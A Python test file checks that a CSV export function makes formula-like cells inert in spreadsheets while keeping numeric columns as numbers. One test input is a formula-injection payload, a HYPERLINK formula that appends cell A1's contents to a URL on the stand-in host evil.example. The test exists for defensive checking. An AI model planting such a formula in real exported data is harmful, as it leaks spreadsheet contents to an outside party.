"""Open data that spreadsheets open: cells that would run as formulas are made inert, numbers
stay numbers (export.py)."""

from __future__ import annotations

import pytest

from showcase.output.open_data import CSV_COLUMNS, NUMBER_COLUMNS, ZH_COLUMNS, inert_cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"点击查看")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"点击查看")',
        ),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("职业技能培训", "职业技能培训"),
        ("1500—4000元", "1500—4000元"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_cells(text: str | None, cell: str) -> None:
    assert inert_cell(text, "label") == cell


def test_numbers_the_plugin_wrote_stay_numbers() -> None:
    assert NUMBER_COLUMNS <= set(CSV_COLUMNS) | set(ZH_COLUMNS)
    assert inert_cell("-5", "数量") == "-5" and inert_cell("-5", "数据名称") == "'-5"
    assert inert_cell("183000", "amount") == "183000"
    assert inert_cell(2022, "year") == "2022"
    # An amount is never negative (quantity.py refuses it); were it one, it would stay a number.
    assert inert_cell("-5", "amount") == "-5"
